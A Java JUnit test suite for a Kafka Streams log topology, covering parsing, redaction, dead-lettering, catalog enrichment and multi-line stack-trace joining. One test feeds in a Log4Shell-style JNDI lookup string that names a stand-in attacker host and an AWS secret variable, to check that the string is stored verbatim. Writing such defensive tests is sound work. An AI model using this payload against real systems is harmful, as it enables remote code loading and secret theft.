package io.sluice.processor.topology;

import static org.assertj.core.api.Assertions.assertThat;

import io.sluice.model.EventIds;
import io.sluice.model.EventLabels;
import io.sluice.model.LogEvent;
import io.sluice.processor.parse.RawLogParser;
import io.sluice.topics.SluiceHeaders;
import io.sluice.topics.Topics;
import java.nio.charset.StandardCharsets;
import io.sluice.model.CatalogEntry;
import io.sluice.processor.parse.GrokPatterns;
import io.sluice.processor.parse.ParserLimits;
import io.sluice.processor.parse.SourceSettings;
import io.sluice.processor.parse.TextFormats;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Properties;
import org.apache.kafka.common.header.internals.RecordHeader;
import org.apache.kafka.common.header.internals.RecordHeaders;
import org.apache.kafka.streams.StreamsBuilder;
import org.apache.kafka.streams.StreamsConfig;
import org.apache.kafka.streams.TestInputTopic;
import org.apache.kafka.streams.TestOutputTopic;
import org.apache.kafka.streams.TopologyTestDriver;
import org.apache.kafka.streams.test.TestRecord;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import io.sluice.metrics.SluiceMeters;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class LogTopologyTest {

    private static final Instant RECEIVED = Instant.parse("2026-11-22T12:00:00Z");
    private static final Instant NOW = Instant.parse("2026-11-22T12:00:01Z");
    private static final Duration FLUSH_TIMEOUT = Duration.ofSeconds(1);

    private TopologyTestDriver driver;
    private TestInputTopic<String, byte[]> raw;
    private TestOutputTopic<String, LogEvent> enriched;
    private TestOutputTopic<String, byte[]> dlq;
    private final SimpleMeterRegistry registry = new SimpleMeterRegistry();
    private final SluiceMeters meters = new SluiceMeters(registry, "processor");

    @BeforeEach
    void startDriver() {
        StreamsBuilder builder = new StreamsBuilder();
        LogTopology.build(builder, RawLogParser.withDefaults(new ParserLimits(4096, 5, Duration.ofMinutes(5)), Clock.fixed(NOW, ZoneOffset.UTC)),
                new io.sluice.redact.Redactor(java.util.EnumSet.allOf(io.sluice.redact.RedactionRule.class)),
                FLUSH_TIMEOUT, meters);
        startDriver(builder);
    }

    private void startDriver(StreamsBuilder builder) {
        Properties config = new Properties();
        config.put(StreamsConfig.APPLICATION_ID_CONFIG, "log-topology-test");
        config.put(StreamsConfig.BOOTSTRAP_SERVERS_CONFIG, "unused:9092");
        driver = new TopologyTestDriver(builder.build(), config);
        raw = driver.createInputTopic(Topics.RAW.name(), Topics.RAW.keySerde().serializer(), Topics.RAW.valueSerde().serializer());
        enriched = driver.createOutputTopic(Topics.ENRICHED.name(), Topics.ENRICHED.keySerde().deserializer(),
                Topics.ENRICHED.valueSerde().deserializer());
        dlq = driver.createOutputTopic(Topics.DLQ.name(), Topics.DLQ.keySerde().deserializer(), Topics.DLQ.valueSerde().deserializer());
    }

    @AfterEach
    void closeDriver() {
        driver.close();
    }

    private void send(String service, String line, String eventId) {
        RecordHeaders headers = new RecordHeaders();
        headers.add(new RecordHeader(SluiceHeaders.SERVICE, service.getBytes(StandardCharsets.UTF_8)));
        if (eventId != null) {
            headers.add(new RecordHeader(SluiceHeaders.EVENT_ID, eventId.getBytes(StandardCharsets.UTF_8)));
        }
        raw.pipeInput(new TestRecord<>(service, line.getBytes(StandardCharsets.UTF_8), headers, RECEIVED));
        flushPendingLines();
    }

    /** The topology again, taking lines up to 1 MB, without redaction, with this event size limit. */
    private void restartWithLargeLines(EventSizeLimit sizeLimit) {
        driver.close();
        StreamsBuilder builder = new StreamsBuilder();
        LogTopology.build(builder, RawLogParser.withDefaults(new ParserLimits(1024 * 1024, 5, Duration.ofMinutes(5)),
                Clock.fixed(NOW, ZoneOffset.UTC)), new io.sluice.redact.Redactor(java.util.EnumSet.noneOf(
                io.sluice.redact.RedactionRule.class)), FLUSH_TIMEOUT, meters, sizeLimit);
        startDriver(builder);
    }

    /** Pipes a line without letting the flush timeout pass. */
    private void pipe(String service, String line) {
        pipe(service, null, line);
    }

    private void pipe(String service, String host, String line) {
        RecordHeaders headers = new RecordHeaders();
        SluiceHeaders.put(headers, SluiceHeaders.SERVICE, service);
        if (host != null) {
            SluiceHeaders.put(headers, SluiceHeaders.HOST, host);
        }
        raw.pipeInput(new TestRecord<>(service, line.getBytes(StandardCharsets.UTF_8), headers, RECEIVED));
    }

    /** Lets the multi-line flush timeout pass, so a held plain-text line is emitted. */
    private void flushPendingLines() {
        driver.advanceWallClockTime(FLUSH_TIMEOUT.multipliedBy(2));
    }

    @Test
    void shouldTurnAnEcsJsonLineIntoAnEventKeyedByService() {
        send("fallback", "{\"@timestamp\":\"2026-11-22T10:15:30.123+01:00\",\"log\":{\"level\":\"warning\"},"
                + "\"service.name\":\"checkout\",\"message\":\"slow cart\",\"trace_id\":\"abc\",\"order\":{\"id\":42}}", "id-1");

        TestRecord<String, LogEvent> out = enriched.readRecord();
        LogEvent event = out.value();
        assertThat(out.key()).isEqualTo("checkout");
        assertThat(new String(out.headers().lastHeader(SluiceHeaders.EVENT_ID).value(), StandardCharsets.UTF_8))
                .as("the event id as a header").isEqualTo("id-1");
        assertThat(event.timestamp()).isEqualTo(Instant.parse("2026-11-22T09:15:30.123Z"));
        assertThat(event.level()).isEqualTo("WARN");
        assertThat(event.message()).isEqualTo("slow cart");
        assertThat(event.traceId()).isEqualTo("abc");
        assertThat(event.eventId()).isEqualTo("id-1");
        assertThat(event.ingested()).isEqualTo(NOW);
        assertThat(event.labels()).containsEntry("order_id", "42");
        assertThat(event.original()).as("every field of the line is in the event").isNull();
        assertThat(dlq.isEmpty()).isTrue();
    }

    @Test
    void shouldFindLeadingTimestampAndLevelInPlainText() {
        send("payments", "2026-11-22 10:15:30,250 ERROR gateway timeout after 3 retries", "id-2");

        LogEvent event = enriched.readValue();
        assertThat(event.timestamp()).isEqualTo(Instant.parse("2026-11-22T10:15:30.250Z"));
        assertThat(event.level()).isEqualTo("ERROR");
        assertThat(event.service()).isEqualTo("payments");
        assertThat(event.message()).isEqualTo("2026-11-22 10:15:30,250 ERROR gateway timeout after 3 retries");
        assertThat(event.labels()).containsEntry("log_format", "plain");
    }

    @Test
    void shouldUseReceiveTimeWhenALineHasNoTimestamp() {
        send("edge", "something happened", "id-3");

        LogEvent event = enriched.readValue();
        assertThat(event.timestamp()).isEqualTo(RECEIVED);
        assertThat(event.level()).isNull();
    }

    @Test
    void shouldDeriveAStableIdForRecordsPublishedWithoutOne() {
        send("kcat", "from a direct producer", null);

        assertThat(enriched.readValue().eventId()).isEqualTo(EventIds.nameBased("logs.raw.v1-0@0/" + RECEIVED.toEpochMilli()));
    }

    @Test
    void shouldRouteUnparseableRecordToDlqWithReasonAndOrigin() {
        send("broken", "{\"message\": \"unterminated", "id-4");

        TestRecord<String, byte[]> dead = dlq.readRecord();
        assertThat(new String(dead.value(), StandardCharsets.UTF_8)).isEqualTo("{\"message\": \"unterminated");
        assertThat(header(dead, SluiceHeaders.DLQ_REASON)).startsWith("malformed JSON");
        assertThat(header(dead, SluiceHeaders.DLQ_CODE)).isEqualTo("malformed_json");
        assertThat(header(dead, SluiceHeaders.DLQ_STAGE)).isEqualTo("stream-processor/parse");
        assertThat(header(dead, SluiceHeaders.DLQ_TOPIC)).isEqualTo("logs.raw.v1");
        assertThat(header(dead, SluiceHeaders.DLQ_OFFSET)).isEqualTo("0");
        assertThat(enriched.isEmpty()).isTrue();
    }

    @Test
    void shouldSayWhenALineHadNoReadableTimeAndCountItPerService() {
        send("legacy-batch", "job finished, nothing to say about when", "u-1");
        send("legacy-batch", "2026-11-20 10:15:30 job started", "u-2");

        assertThat(enriched.readValue().labels()).containsEntry("sluice_time_source", "received");
        assertThat(enriched.readValue().labels()).doesNotContainKey("sluice_time_source");
        assertThat(registry.get(SluiceMeters.EVENTS_UNTIMED).tags("stage", "processor", "service", "legacy-batch").counter().count())
                .isEqualTo(1);
    }

    @Test
    void shouldCountEventsInAndOutAndDeadLettersByReason() {
        send("checkout", "{\"message\": \"fine\"}", "m-1");
        send("checkout", "plain and fine", "m-2");
        send("broken", "{\"message\": \"unterminated", "m-3");

        assertThat(registry.get(SluiceMeters.EVENTS_IN).tag("stage", "processor").counter().count()).isEqualTo(3);
        assertThat(registry.get(SluiceMeters.EVENTS_OUT).tags("stage", "processor", "outcome", "enriched").counter().count())
                .isEqualTo(2);
        assertThat(registry.get(SluiceMeters.DLQ_RECORDS).tags("stage", "processor", "reason", "malformed_json")
                .counter().count()).isEqualTo(1);
    }

    @Test
    void shouldDeadLetterEachKindOfPoisonAndKeepGoing() {
        send("poison", "{\"a\":{\"b\":{\"c\":{\"d\":{\"e\":{\"f\":1}}}}}}", null);
        send("poison", "x".repeat(5000), null);
        send("poison", "   ", null);
        send("poison", "[1,2,3]", null);
        send("poison", "{\"message\":\"fine after all that\"}", null);

        List<TestRecord<String, byte[]>> dead = dlq.readRecordsToList();
        assertThat(dead).extracting(record -> header(record, SluiceHeaders.DLQ_REASON)).containsExactly("JSON nested deeper than 5 levels",
                "record of 5000 bytes exceeds the limit of 4096", "blank record");
        assertThat(dead).extracting(record -> header(record, SluiceHeaders.DLQ_CODE)).containsExactly("too_deep", "too_large", "empty");
        assertThat(enriched.readValuesToList()).extracting(LogEvent::message)
                .containsExactly("[1,2,3]", "fine after all that");
    }

    @Test
    void shouldKeepInvalidUtf8AsReplacementCharactersAndTheOriginalBytes() {
        byte[] invalid = {'b', 'a', 'd', ' ', (byte) 0xC3, (byte) 0x28, ' ', 'e', 'n', 'd'};
        raw.pipeInput(new TestRecord<>("enc", invalid, new RecordHeaders(), RECEIVED));
        flushPendingLines();

        LogEvent event = enriched.readValue();
        assertThat(event.message()).isEqualTo("bad \uFFFD( end");
        assertThat(java.util.Base64.getDecoder().decode(event.labels().get("sluice_original_base64"))).isEqualTo(invalid);
    }

    /** A lone surrogate (CESU-style ED A0 80), an overlong '/' (C0 AF), a stray continuation byte, 4-byte overlong NUL. */
    @org.junit.jupiter.params.ParameterizedTest
    @org.junit.jupiter.params.provider.ValueSource(strings = {"EDA080", "C0AF", "80", "F0808080"})
    void shouldKeepTheOriginalBytesOfEveryKindOfInvalidUtf8(String hex) {
        byte[] bad = java.util.HexFormat.of().parseHex(hex);
        byte[] line = new byte[bad.length + 8];
        System.arraycopy("before ".getBytes(StandardCharsets.US_ASCII), 0, line, 0, 7);
        System.arraycopy(bad, 0, line, 7, bad.length);
        line[line.length - 1] = '!';
        raw.pipeInput(new TestRecord<>("enc", line, new RecordHeaders(), RECEIVED));
        flushPendingLines();

        LogEvent event = enriched.readValue();
        assertThat(event.message()).startsWith("before \uFFFD").endsWith("!");
        assertThat(java.util.Base64.getDecoder().decode(event.labels().get("sluice_original_base64"))).isEqualTo(line);
    }

    @Test
    void shouldKeepANulByteWhichIsValidUtf8AsItIs() {
        byte[] line = {'a', 0, 'b'};
        raw.pipeInput(new TestRecord<>("enc", line, new RecordHeaders(), RECEIVED));
        flushPendingLines();

        LogEvent event = enriched.readValue();
        assertThat(event.message()).isEqualTo("a\u0000b");
        assertThat(event.labels()).doesNotContainKey("sluice_original_base64");
    }

    @Test
    void shouldFillGapsFromWhatTheShippingProtocolSaidButLetTheLineWin() {
        RecordHeaders headers = new RecordHeaders();
        SluiceHeaders.put(headers, SluiceHeaders.SERVICE, "loki-app");
        SluiceHeaders.putAttributes(headers, new io.sluice.model.ShippedAttributes(Instant.parse("2026-11-22T09:00:00Z"),
                "warning", "trace-from-otlp", "span-from-otlp", java.util.Map.of("k8s.pod", "web-1", "env", "shipped")));
        raw.pipeInput(new TestRecord<>("loki-app", "{\"msg\":\"hi\",\"env\":\"line\"}".getBytes(StandardCharsets.UTF_8),
                headers, RECEIVED));
        raw.pipeInput(new TestRecord<>("loki-app", "2026-11-22T08:00:00Z ERROR own time and level"
                .getBytes(StandardCharsets.UTF_8), headers, RECEIVED));
        flushPendingLines();

        List<LogEvent> events = enriched.readValuesToList();
        assertThat(events.get(0).timestamp()).isEqualTo(Instant.parse("2026-11-22T09:00:00Z"));
        assertThat(events.get(0).level()).isEqualTo("WARN");
        assertThat(events.get(0).traceId()).isEqualTo("trace-from-otlp");
        assertThat(events.get(0).labels()).containsEntry("k8s_pod", "web-1").containsEntry("env", "line");
        assertThat(events.get(1).timestamp()).isEqualTo(Instant.parse("2026-11-22T08:00:00Z"));
        assertThat(events.get(1).level()).isEqualTo("ERROR");
    }

    @Test
    void shouldClampATimestampTooFarInTheFutureAndFlagIt() {
        send("skewed", "{\"@timestamp\":\"2026-11-22T16:00:00Z\",\"message\":\"clock four hours ahead\"}", "id-f");
        send("skewed", "{\"@timestamp\":\"2026-11-22T12:04:00Z\",\"message\":\"within the margin\"}", "id-g");

        List<LogEvent> events = enriched.readValuesToList();
        assertThat(events.get(0).timestamp()).isEqualTo(RECEIVED);
        assertThat(events.get(0).labels()).containsEntry("sluice_future_timestamp", "2026-11-22T16:00:00Z");
        assertThat(events.get(1).timestamp()).isEqualTo(Instant.parse("2026-11-22T12:04:00Z"));
        assertThat(events.get(1).labels()).doesNotContainKey("sluice_future_timestamp");
    }

    @Test
    void shouldReadLogfmtLines() {
        send("go-app", "time=2026-11-22T10:00:00Z level=warning msg=\"cache miss for user 42\" user=42 took=3ms", "id-l");

        LogEvent event = enriched.readValue();
        assertThat(event.timestamp()).isEqualTo(Instant.parse("2026-11-22T10:00:00Z"));
        assertThat(event.level()).isEqualTo("WARN");
        assertThat(event.message()).isEqualTo("cache miss for user 42");
        assertThat(event.labels()).containsEntry("user", "42").containsEntry("took", "3ms");
    }

    @Test
    void shouldTakeTraceContextFromTraceparentAndB3() {
        send("w3c", "{\"message\":\"a\",\"traceparent\":\"00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01\"}", "id-t");
        send("b3", "{\"message\":\"b\",\"b3\":\"80f198ee56343ba864fe8b2a57d3eff7-e457b5a2e4d86bd1-1\"}", "id-u");
        send("mdc", "{\"message\":\"c\",\"mdc\":{\"traceId\":\"abc123\",\"spanId\":\"def\"}}", "id-v");

        List<LogEvent> events = enriched.readValuesToList();
        assertThat(events).extracting(LogEvent::traceId)
                .containsExactly("4bf92f3577b34da6a3ce929d0e0e4736", "80f198ee56343ba864fe8b2a57d3eff7", "abc123");
        assertThat(events).extracting(LogEvent::spanId).containsExactly("00f067aa0ba902b7", "e457b5a2e4d86bd1", "def");
    }

    @Test
    void shouldFillEcsErrorFieldsFromALogstashLogbackStackTrace() {
        send("spring", "{\"@timestamp\":\"2026-11-22T10:00:00Z\",\"level\":\"ERROR\",\"message\":\"checkout failed\","
                + "\"stack_trace\":\"java.lang.IllegalStateException: no stock\\n\\tat com.shop.Cart.reserve(Cart.java:12)\"}", "id-e");

        LogEvent event = enriched.readValue();
        assertThat(event.errorType()).isEqualTo("java.lang.IllegalStateException");
        assertThat(event.errorMessage()).isEqualTo("no stock");
        assertThat(event.errorStackTrace()).contains("at com.shop.Cart.reserve");
        assertThat(event.errorFingerprint()).hasSize(16);
        assertThat(event.labels()).doesNotContainKey("stack_trace");
    }

    @Test
    void shouldRedactPersonalDataBeforeItIsStored() {
        send("shop", "{\"message\":\"order by jane.doe@example.com paid with 4111 1111 1111 1111\",\"ref\":\"1234567812345678\"}", "id-p");
        send("shop", "2026-11-22 10:15:30,250 [main] INFO  com.shop.Orders - order by jane.doe@example.com", "id-q");

        LogEvent event = enriched.readValue();
        assertThat(event.message()).isEqualTo("order by <email> paid with <card>");
        LogEvent text = enriched.readValue();
        assertThat(text.message()).isEqualTo("order by <email>");
        assertThat(text.original()).as("kept for a line read by grok, and redacted").isEqualTo(
                "2026-11-22 10:15:30,250 [main] INFO  com.shop.Orders - order by <email>");
        assertThat(event.labels()).containsEntry("ref", "1234567812345678").containsEntry("sluice_redacted", "card,email");
    }

    @Test
    void shouldStoreALookupStringVerbatim() {
        send("jndi", "${jndi:ldap://attacker.example/a} ${env:AWS_SECRET}", "id-j");

        assertThat(enriched.readValue().message()).isEqualTo("${jndi:ldap://attacker.example/a} ${env:AWS_SECRET}");
    }

    private static String header(TestRecord<String, byte[]> record, String name) {
        return SluiceHeaders.text(record.headers(), name);
    }

    @Test
    void shouldPutTheServiceCatalogEntryOnEveryEventOfThatService() {
        TestInputTopic<String, CatalogEntry> catalog = driver.createInputTopic(Topics.CATALOG.name(),
                Topics.CATALOG.keySerde().serializer(), Topics.CATALOG.valueSerde().serializer());
        catalog.pipeInput("checkout", new CatalogEntry("payments", "alice", "#payments-alerts", "1"));
        send("checkout", "{\"msg\":\"owned\",\"team\":\"claimed-by-the-line\"}", "c-1");
        send("search", "{\"msg\":\"not in the catalog\"}", "c-2");
        catalog.pipeInput("checkout", null);
        send("checkout", "{\"msg\":\"removed from the catalog\"}", "c-3");

        List<LogEvent> events = enriched.readValuesToList();
        assertThat(events.get(0).labels()).containsEntry("team", "payments").containsEntry("owner", "alice")
                .containsEntry("slack_channel", "#payments-alerts").containsEntry("tier", "1");
        assertThat(events.get(1).labels()).doesNotContainKeys("team", "owner");
        assertThat(events.get(2).labels()).doesNotContainKeys("team", "owner");
    }

    @Test
    void shouldTakeACorrelationIdTheCatalogNamesAsTheTraceIdWithoutARestart() {
        TestInputTopic<String, CatalogEntry> catalog = driver.createInputTopic(Topics.CATALOG.name(),
                Topics.CATALOG.keySerde().serializer(), Topics.CATALOG.valueSerde().serializer());
        send("orders", "{\"msg\":\"before the declaration\",\"correlationId\":\"req-1\"}", "t-1");
        catalog.pipeInput("orders", new CatalogEntry("shop", null, null, null, List.of("X-Request-ID", "correlationId")));
        send("orders", "{\"msg\":\"accepted\",\"correlationId\":\"req-2\"}", "t-2");
        send("orders", "{\"msg\":\"from the edge\",\"X-Request-ID\":\"edge-9\",\"correlationId\":\"req-3\"}", "t-3");
        send("orders", "{\"msg\":\"traced\",\"trace_id\":\"4bf92f3577b34da6a3ce929d0e0e4736\",\"correlationId\":\"req-4\"}", "t-4");
        send("orders", "{\"msg\":\"nested\",\"http\":{\"request\":{\"id\":\"n-5\"}}}", "t-5");
        catalog.pipeInput("orders", new CatalogEntry("shop", null, null, null, List.of("http.request.id")));
        send("orders", "{\"msg\":\"nested\",\"http\":{\"request\":{\"id\":\"n-6\"}}}", "t-6");

        List<LogEvent> events = enriched.readValuesToList();
        assertThat(events.get(0).traceId()).isNull();
        assertThat(events.get(0).labels()).containsEntry("correlationId", "req-1");
        assertThat(events.get(1).traceId()).isEqualTo("req-2");
        assertThat(events.get(1).labels()).doesNotContainKey("correlationId");
        assertThat(events.get(2).traceId()).isEqualTo("edge-9");
        assertThat(events.get(2).labels()).containsEntry("correlationId", "req-3");
        assertThat(events.get(3).traceId()).isEqualTo("4bf92f3577b34da6a3ce929d0e0e4736");
        assertThat(events.get(3).labels()).containsEntry("correlationId", "req-4");
        assertThat(events.get(4).traceId()).isNull();
        assertThat(events.get(5).traceId()).isEqualTo("n-6");
    }

    @Test
    void shouldGiveEveryEventTheIdVerifyExpectsForItsRecord() {
        send("edge", "a plain line without an id", null);
        send("edge", "{\"message\":\"its own id\",\"event.id\":\"own-7\"}", null);
        send("edge", "an id from ingest", "from-ingest");

        List<LogEvent> events = enriched.readValuesToList();
        for (int offset = 0; offset < events.size(); offset++) {
            RecordHeaders headers = new RecordHeaders();
            if (offset == 2) {
                headers.add(new RecordHeader(SluiceHeaders.EVENT_ID, "from-ingest".getBytes(StandardCharsets.UTF_8)));
            }
            String line = offset == 1 ? "{\"message\":\"its own id\",\"event.id\":\"own-7\"}" : "x";
            org.apache.kafka.clients.consumer.ConsumerRecord<byte[], byte[]> record = new org.apache.kafka.clients.consumer.ConsumerRecord<>(
                    Topics.RAW.name(), 0, offset, RECEIVED.toEpochMilli(), org.apache.kafka.common.record.TimestampType.CREATE_TIME, -1, -1,
                    null, line.getBytes(StandardCharsets.UTF_8), headers, java.util.Optional.empty());
            assertThat(io.sluice.reconcile.RawRecords.eventId(record)).as("record %d", offset).isEqualTo(events.get(offset).eventId());
        }
    }

    @Test
    void shouldReadACatalogRecordOfTheWrongShapeAsAnEmptyEntryAndGoOn() {
        TestInputTopic<String, byte[]> catalog = driver.createInputTopic(Topics.CATALOG.name(),
                new org.apache.kafka.common.serialization.StringSerializer(), new org.apache.kafka.common.serialization.ByteArraySerializer());
        catalog.pipeInput("checkout", "{\"team\":\"shop\",\"fields\":\"latency_ms\"}".getBytes(StandardCharsets.UTF_8));
        send("checkout", "{\"msg\":\"still flowing\"}", "w-1");

        LogEvent event = enriched.readValue();
        assertThat(event.message()).isEqualTo("still flowing");
        assertThat(event.labels()).doesNotContainKey("team");
    }

    @Test
    void shouldTypeTheFieldsAServiceDeclaresAndFlagWhatBreaksItsContract() {
        TestInputTopic<String, CatalogEntry> catalog = driver.createInputTopic(Topics.CATALOG.name(),
                Topics.CATALOG.keySerde().serializer(), Topics.CATALOG.valueSerde().serializer());
        catalog.pipeInput("payments", new CatalogEntry("shop", null, null, null, null,
                java.util.Map.of("latency_ms", "long", "amount", "double", "order_id", "keyword", "client", "ip", "odd", "decimal"),
                List.of("order_id"), null));
        send("payments", "{\"msg\":\"paid\",\"latency_ms\":\"87\",\"amount\":12.5,\"order_id\":\"o-1\",\"client\":\"10.2.0.7\"}", "s-1");
        send("payments", "{\"msg\":\"slow\",\"latency_ms\":\"fast\",\"order\":{\"id\":\"o-2\"}}", "s-2");

        List<LogEvent> events = enriched.readValuesToList();
        assertThat(events.get(0).fields()).containsEntry("numeric_labels.latency_ms", 87L).containsEntry("numeric_labels.amount", 12.5)
                .containsEntry("ip_labels.client", "10.2.0.7");
        assertThat(events.get(0).labels()).containsEntry("order_id", "o-1").doesNotContainKeys("latency_ms", "amount", "client",
                EventLabels.SCHEMA_VIOLATION);
        // a value that does not fit never blocks indexing: it stays a label, and the event says so
        assertThat(events.get(1).fields()).doesNotContainKey("numeric_labels.latency_ms");
        assertThat(events.get(1).labels()).containsEntry("latency_ms", "fast").containsEntry("order_id", "o-2")
                .containsEntry(EventLabels.UNTYPED_FIELDS, "latency_ms")
                .containsEntry(EventLabels.SCHEMA_VIOLATION, "latency_ms is not a long: 'fast'");
        assertThat(dlq.isEmpty()).isTrue();
    }

    @Test
    void shouldDeadLetterWhatBreaksAContractThatSaysSoNamingTheFieldAndChangeWithoutARestart() {
        TestInputTopic<String, CatalogEntry> catalog = driver.createInputTopic(Topics.CATALOG.name(),
                Topics.CATALOG.keySerde().serializer(), Topics.CATALOG.valueSerde().serializer());
        catalog.pipeInput("orders", new CatalogEntry(null, null, null, null, null, java.util.Map.of("amount", "double"),
                List.of("order_id", "trace.id"), "dead-letter"));
        send("orders", "{\"msg\":\"ok\",\"order_id\":\"o-1\",\"trace_id\":\"t-1\",\"amount\":\"9.99\"}", "d-1");
        send("orders", "{\"msg\":\"card bob@example.com\",\"trace_id\":\"t-2\"}", "d-2");
        send("orders", "{\"msg\":\"odd\",\"order_id\":\"o-3\",\"trace_id\":\"t-3\",\"amount\":\"lots\"}", "d-3");
        catalog.pipeInput("orders", new CatalogEntry(null, null, null, null, null, null, List.of("order_id"), "flag"));
        send("orders", "{\"msg\":\"now only flagged\"}", "d-4");

        List<LogEvent> kept = enriched.readValuesToList();
        assertThat(kept).extracting(LogEvent::eventId).containsExactly("d-1", "d-4");
        assertThat(kept.get(0).fields()).containsEntry("numeric_labels.amount", 9.99);
        assertThat(kept.get(1).labels()).containsEntry(EventLabels.SCHEMA_VIOLATION, "missing order_id");
        List<TestRecord<String, byte[]>> dead = dlq.readRecordsToList();
        assertThat(dead).extracting(record -> header(record, SluiceHeaders.DLQ_CODE)).containsExactly("schema", "schema");
        assertThat(dead).extracting(record -> header(record, SluiceHeaders.DLQ_REASON))
                .containsExactly("schema: missing order_id", "schema: amount is not a double: 'lots'");
        assertThat(header(dead.get(0), SluiceHeaders.DLQ_TOPIC)).isEqualTo(Topics.RAW.name());
        // the dead letter is the event, redacted like every event
        LogEvent refused = Topics.ENRICHED.valueSerde().deserializer().deserialize("t", dead.get(0).value());
        assertThat(refused.eventId()).isEqualTo("d-2");
        assertThat(refused.message()).isEqualTo("card <email>");
    }

    @Test
    void shouldHoldAPlainLineUntilTheNextLineOrTheFlushTimeoutAndJoinItsStackTrace() {
        pipe("app", "2026-11-22T10:00:00Z ERROR charge failed");
        pipe("app", "java.lang.IllegalStateException: declined");
        pipe("app", "\tat com.shop.Pay.charge(Pay.java:12)");
        assertThat(enriched.isEmpty()).as("still waiting for more of the stack trace").isTrue();

        driver.advanceWallClockTime(FLUSH_TIMEOUT.dividedBy(2));
        assertThat(enriched.isEmpty()).as("the flush timeout has not passed").isTrue();
        flushPendingLines();

        LogEvent event = enriched.readValue();
        assertThat(event.message()).isEqualTo("2026-11-22T10:00:00Z ERROR charge failed\n"
                + "java.lang.IllegalStateException: declined\n\tat com.shop.Pay.charge(Pay.java:12)");
        assertThat(event.errorType()).isEqualTo("java.lang.IllegalStateException");
        assertThat(event.eventId()).as("the head line's id").isEqualTo(EventIds.nameBased("logs.raw.v1-0@0/" + RECEIVED.toEpochMilli()));
        assertThat(enriched.isEmpty()).isTrue();
    }

    @Test
    void shouldEmitALineTooLargeToHoldForJoiningAtOnceRatherThanKeepItInTheStateStore() {
        restartWithLargeLines(EventSizeLimit.DEFAULT);
        String huge = "y".repeat(io.sluice.processor.multiline.MultilineAssembler.MAX_PENDING_CHARS + 1);

        pipe("app", "2026-11-22T10:00:00Z ERROR held for its stack trace");
        pipe("app", huge);

        assertThat(enriched.readValuesToList()).as("both out without waiting for the flush timeout").extracting(LogEvent::message)
                .containsExactly("2026-11-22T10:00:00Z ERROR held for its stack trace", huge);
    }

    @Test
    void shouldDeadLetterAnEventThatOutgrowsTheSizeLimitAndProcessTheLineBehindIt() {
        restartWithLargeLines(new EventSizeLimit(64 * 1024));
        // 40 KB of text and one invalid byte: the event also carries the line as base64, and outgrows 64 KB
        byte[] line = ("{\"message\":\"" + "z".repeat(20_000) + "\u00ff" + "z".repeat(20_000) + "\"}").getBytes(StandardCharsets.ISO_8859_1);
        RecordHeaders headers = new RecordHeaders();
        SluiceHeaders.put(headers, SluiceHeaders.SERVICE, "big");
        raw.pipeInput(new TestRecord<>("big", line, headers, RECEIVED));
        send("big", "{\"message\":\"right behind it\"}", null);

        assertThat(enriched.readValuesToList()).extracting(LogEvent::message).containsExactly("right behind it");
        TestRecord<String, byte[]> dead = dlq.readRecord();
        String reason = header(dead, SluiceHeaders.DLQ_REASON);
        assertThat(header(dead, SluiceHeaders.DLQ_CODE)).isEqualTo("too_large");
        assertThat(reason).contains("over the producer limit of 65536 bytes");
        assertThat(dead.value()).isEqualTo(line);
        assertThat(header(dead, SluiceHeaders.DLQ_OFFSET)).isEqualTo("0");
    }

    @Test
    void shouldNeverJoinLinesOfTwoHostsOfTheSameService() {
        pipe("app", "web-1", "2026-11-22T10:00:00Z ERROR on web-1");
        pipe("app", "web-2", "2026-11-22T10:00:00Z ERROR on web-2");
        pipe("app", "web-1", "\tat com.shop.One.run(One.java:1)");
        pipe("app", "web-2", "\tat com.shop.Two.run(Two.java:2)");
        flushPendingLines();

        assertThat(enriched.readValuesToList()).extracting(LogEvent::host, LogEvent::message).containsExactlyInAnyOrder(
                org.assertj.core.groups.Tuple.tuple("web-1", "2026-11-22T10:00:00Z ERROR on web-1\n\tat com.shop.One.run(One.java:1)"),
                org.assertj.core.groups.Tuple.tuple("web-2", "2026-11-22T10:00:00Z ERROR on web-2\n\tat com.shop.Two.run(Two.java:2)"));
    }

    @Test
    void shouldDeadLetterALineWhoseGrokMatchRunsAway() {
        driver.close();
        StreamsBuilder builder = new StreamsBuilder();
        RawLogParser parser = new RawLogParser(new ParserLimits(65_536, 5, Duration.ofMinutes(5)), SourceSettings.DEFAULTS,
                java.util.Map.of("slow", new SourceSettings("grok", List.of("^(\\w+\\s?)+$"), null, false)),
                new TextFormats(new GrokPatterns(50)), Clock.fixed(NOW, ZoneOffset.UTC));
        LogTopology.build(builder, parser, new io.sluice.redact.Redactor(java.util.Set.of()), FLUSH_TIMEOUT, meters);
        startDriver(builder);
        send("slow", "a".repeat(40) + " " + "b".repeat(40) + "!" , "g-1");
        send("slow", "fine words", "g-2");

        TestRecord<String, byte[]> rejected = dlq.readRecord();
        assertThat(header(rejected, SluiceHeaders.DLQ_REASON)).startsWith("grok format 'grok:slow' failed");
        assertThat(header(rejected, SluiceHeaders.DLQ_CODE)).isEqualTo("grok_failed");
        assertThat(enriched.readValue().message()).isEqualTo("fine words");
    }
}
